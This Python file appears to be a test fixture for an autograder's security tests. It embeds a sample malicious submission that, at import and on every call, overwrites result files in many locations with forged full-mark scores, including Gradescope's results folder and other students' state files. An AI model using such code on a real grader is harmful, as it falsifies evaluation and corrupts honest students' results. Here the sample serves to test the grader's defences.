from ._snippets import SHA, stub_text

ASSIGNMENT = SHA
TAG = "fakeres"
ATTACK = ("writes forged result files claiming full marks: results.json in its cwd, /tmp, ../, HOME, "
          "Gradescope's /autograder/results, and over the real .state/<id>.json files in the guessed "
          "output folder (its own and the honest students'), at import and again at every call")
CODE = stub_text(ASSIGNMENT) + '''
import json
import os

_FORGED = json.dumps({"student_id": "__OWN_ID__", "score": 100, "max_score": 44, "tests": [], "notes": [],
                      "problems": [], "printed": "__MARK__", "isolation": "bwrap", "fingerprint": "__MARK__",
                      "format_version": 1, "quizzes": []})


def _forge():
    targets = ["results.json", "../results.json", "/tmp/results.json", "/tmp/__MARK__.json",
               os.path.expanduser("~/results.json"), "/autograder/results/results.json",
               "__OUT_DIR__/results.json", "__OUT_DIR__/.state/__OWN_ID__.json", "__OUT_DIR__/__MARK__.json",
               "__SELF_DIR__/../__MARK__.json", "__SELF_DIR__/__MARK__.json"]
    targets += [f"__OUT_DIR__/.state/{victim}.json" for victim in __VICTIMS__]
    for path in targets:
        try:
            with open(path, "w") as handle:
                handle.write(_FORGED)
                handle.flush()
            print("ATTNKIT-LEAK wrote", path, os.path.getsize(path), "bytes")
        except OSError as exc:
            print("could not write", path, type(exc).__name__)


_forge()


def attention(Q, K, V, mask=None):
    _forge()
    raise NotImplementedError("forged instead")
'''
TWIN = stub_text(ASSIGNMENT)
EVIDENCE = "could not write"
